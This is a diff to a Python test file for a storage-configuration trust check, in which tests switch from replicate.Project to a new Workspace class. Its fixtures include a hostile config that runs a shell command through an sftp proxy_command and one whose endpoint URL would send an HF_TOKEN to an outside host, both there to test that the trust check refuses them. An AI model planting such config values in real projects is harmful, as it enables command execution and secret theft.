@@ -10,6 +10,7 @@ import pytest
 import replicate
 from replicate_core.config import load
 from replicate_core.storage.trust import Request, forget, is_trusted, trust, trusted
+from replicate_core.workspace import Workspace
 
 EVIL = 'storage: sftp://host.invalid/x\nstorage_options: {proxy_command: "touch ran"}\n'
 SENDING = "storage: s3://bucket\nstorage_options: {endpoint_url: 'http://host.invalid/${HF_TOKEN}'}\n"
@@ -49,7 +50,7 @@ def test_a_file_that_the_command_line_names_is_refused_too(project: Path, tmp_pa
 
 def test_what_is_trusted_is_taken_until_its_storage_changes(project: Path) -> None:
     trust(asking(project))
-    assert replicate.Project().storage_options["secret"] == "${MY_SECRET}"
+    assert Workspace().storage_options["secret"] == "${MY_SECRET}"
     assert is_trusted(asking(project, f"quiet: true\n{MINE}")), "what has nothing to do with the storage may change"
     for other in (MINE.replace("localhost", "evil"), MINE.replace("bucket", "other"), f"{MINE[:-2]}, anon: true}}\n"):
         asking(project, other)
@@ -115,9 +116,9 @@ def test_a_job_that_can_not_ask_names_the_directories_that_it_trusts(
 
 def test_options_given_in_code_need_no_trust_and_those_of_the_file_are_not_used(project: Path) -> None:
     asking(project, EVIL)
-    told = replicate.Project(storage_options={"client_keys": ["/key"]})
+    told = Workspace(storage_options={"client_keys": ["/key"]})
     assert told.storage_options == {"client_keys": ["/key"]}
-    assert replicate.Project(storage="s3://bucket").storage_options == {}, "another kind of storage"
+    assert Workspace(storage="s3://bucket").storage_options == {}, "another kind of storage"
     with pytest.raises(replicate.ConfigInvalid, match="proxy_command"):
         replicate.Project(storage="sftp://other/x")
 
